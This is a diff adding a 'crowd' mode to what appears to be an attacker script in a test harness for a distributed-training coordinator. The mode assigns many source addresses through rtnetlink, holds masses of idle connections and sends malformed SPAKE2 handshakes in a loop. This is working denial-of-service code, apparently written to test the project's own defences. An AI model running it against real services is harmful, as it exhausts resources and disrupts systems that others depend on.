@@ -13,6 +13,12 @@ line: ``ATTACK {json}``.
   connection.
 - ``ssh``: log in to --ssh-host as root with a client key derived from the job's description (what the
   image once did for the SageMaker SDK's MPI driver), and fetch its host key.
+- ``crowd``: many source addresses from one container: it adds --sources and --malformed-sources to its
+  own interface (rtnetlink, as ``ip addr add`` does; the container needs CAP_NET_ADMIN), then from each
+  --sources address holds --connections silent connections to the master's coordinator (a new one for
+  each the master closes, each attempt given --connect-seconds), and from each --malformed-sources
+  address sends SPAKE2 starts with a wrong side byte, one connection after another, until stopped.
+  Prints ``CROWD READY`` once every address has connected, then, when stopped, what it achieved.
 """
 
 from __future__ import annotations
@@ -21,11 +27,13 @@ import argparse
 import hashlib
 import hmac
 import json
+import os
 import resource
 import select
 import selectors
 import signal
 import socket
+import struct
 import subprocess
 import threading
 import time
@@ -33,6 +41,7 @@ from pathlib import Path
 
 from sagetrain.config.job import load_job_config
 from sagetrain.config.job_secret import JobSecret, Membership
+from sagetrain.contracts import canonical_json
 from sagetrain.deadline import Deadline
 from sagetrain.launch.coordinator.trust import HandshakeFailed, open_authenticated
 from sagetrain.launch.coordinator.wire import Ack, Hello, PakeStart, RankFailed, Welcome, encode
@@ -175,9 +184,115 @@ def derived_key_login(args: argparse.Namespace) -> dict:
     }
 
 
+# rtnetlink (<linux/rtnetlink.h>, <linux/if_addr.h>): add an IPv4 address to an interface.
+RTM_NEWADDR = 20
+NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE = 0x1, 0x4, 0x200, 0x400
+IFA_ADDRESS, IFA_LOCAL = 1, 2
+NLMSG_HEADER_BYTES = 16
+# A SPAKE2 start with the side byte "X" (base64 "WA…"): JSON and base64 as they should be, no peer's message.
+WRONG_SIDE = canonical_json(encode(PakeStart("algo-2", "WA" + "A" * 42))) + b"\n"
+
+
+def add_addresses(addresses: list[str], prefix: int, interface: str) -> None:
+    """Give ``interface`` these addresses too, each /``prefix`` (CAP_NET_ADMIN)."""
+    index = socket.if_nametoindex(interface)
+    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as netlink:
+        for sequence, address in enumerate(addresses, 1):
+            packed = socket.inet_aton(address)
+            attributes = b"".join(struct.pack("=HH", 8, kind) + packed for kind in (IFA_LOCAL, IFA_ADDRESS))
+            body = struct.pack("=BBBBI", socket.AF_INET, prefix, 0, 0, index) + attributes
+            header = struct.pack("=IHHII", NLMSG_HEADER_BYTES + len(body), RTM_NEWADDR, flags, sequence, 0)
+            netlink.send(header + body)
+            error = struct.unpack_from("=i", netlink.recv(65536), NLMSG_HEADER_BYTES)[0]
+            if error:
+                raise OSError(-error, f"adding {address} to {interface}: {os.strerror(-error)}")
+
+
+class Crowd:
+    """The ``crowd`` mode's connections and what came of them."""
+
+    def __init__(self, args: argparse.Namespace) -> None:
+        self.args = args
+        self.stopped = threading.Event()
+        self.lock = threading.Lock()
+        self.ready: set[str] = set()
+        self.counts = {"opened": 0, "unanswered": 0, "starts_sent": 0, "answered_bytes": 0}
+
+    def count(self, name: str, amount: int = 1, address: str = "") -> None:
+        with self.lock:
+            self.counts[name] += amount
+            if address:
+                self.ready.add(address)
+
+    def connect(self, source: str) -> socket.socket | None:
+        try:
+            sock = socket.create_connection(
+                (self.args.master, self.args.port),
+                timeout=self.args.connect_seconds,
+                source_address=(source, 0),
+            )
+        except OSError:  # refused or, while the master drops this address's packets, unanswered
+            self.count("unanswered")
+            return None
+        self.count("opened", address=source)
+        return sock
+
+    def hold(self, source: str) -> None:
+        held = selectors.DefaultSelector()
+        while not self.stopped.is_set():
+            while len(held.get_map()) < self.args.connections and not self.stopped.is_set():
+                sock = self.connect(source)
+                if sock is None:
+                    break
+                held.register(sock, selectors.EVENT_READ)
+            for key, _ in held.select(0.5):  # closed by the master: open another
+                held.unregister(key.fileobj)
+                key.fileobj.close()  # type: ignore[union-attr]
+        for key in list(held.get_map().values()):
+            key.fileobj.close()  # type: ignore[union-attr]
+
+    def malformed(self, source: str) -> None:
+        while not self.stopped.is_set():
+            sock = self.connect(source)
+            if sock is None:
+                continue
+            with sock:
+                try:
+                    sock.sendall(WRONG_SIDE)
+                    self.count("starts_sent")
+                    sock.settimeout(15)
+                    while data := sock.recv(4096):
+                        self.count("answered_bytes", len(data))
+                except OSError:
+                    pass
+
+
+def crowd(args: argparse.Namespace) -> dict:
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    sources = args.sources.split(",")
+    malformed = args.malformed_sources.split(",") if args.malformed_sources else []
+    add_addresses(sources + malformed, args.prefix, args.interface)
+    mob = Crowd(args)
+    signal.signal(signal.SIGTERM, lambda number, frame: mob.stopped.set())
+    threads = [threading.Thread(target=mob.hold, args=(source,)) for source in sources]
+    threads += [threading.Thread(target=mob.malformed, args=(source,)) for source in malformed]
+    for thread in threads:
+        thread.start()
+    announced = False
+    while not mob.stopped.wait(0.2):  # until docker stop; says once when every address has connected
+        if not announced and len(mob.ready) == len(sources) + len(malformed):
+            announced = True
+            print("CROWD READY", flush=True)
+    for thread in threads:
+        thread.join(30)
+    return {**mob.counts, "addresses": len(sources) + len(malformed)}
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("mode", choices=("guess", "flood", "ssh"))
+    parser.add_argument("mode", choices=("guess", "flood", "ssh", "crowd"))
     parser.add_argument("--tree", type=Path, default=Path("/attacker/ml"))
     parser.add_argument("--names", default="")
     parser.add_argument("--hosts", default="algo-1,algo-2")
@@ -187,8 +302,13 @@ def main() -> None:
     parser.add_argument("--connections", type=int, default=1100)
     parser.add_argument("--seconds", type=float, default=500.0)
     parser.add_argument("--ssh-host", default="algo-2")
+    parser.add_argument("--sources", default="")
+    parser.add_argument("--malformed-sources", default="")
+    parser.add_argument("--prefix", type=int, default=16)
+    parser.add_argument("--interface", default="eth0")
+    parser.add_argument("--connect-seconds", type=float, default=1.0)
     args = parser.parse_args()
-    action = {"guess": guess, "flood": flood, "ssh": derived_key_login}[args.mode]
+    action = {"guess": guess, "flood": flood, "ssh": derived_key_login, "crowd": crowd}[args.mode]
     print("ATTACK " + json.dumps(action(args)), flush=True)
 
 
